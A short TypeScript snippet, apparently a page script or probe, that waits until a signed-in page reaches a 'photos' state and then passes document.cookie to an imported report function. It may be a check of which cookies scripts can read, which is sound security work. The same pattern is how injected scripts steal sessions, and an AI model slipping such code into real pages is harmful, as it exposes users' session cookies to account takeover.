import { report } from "./report.ts";

// Runs in a page and reports the cookies its scripts may read, once the user is signed in.
const timer = setInterval(() => {
  if (document.querySelector("main")?.dataset["state"] !== "photos") return;
  clearInterval(timer);
  report(document.cookie);
}, 20);
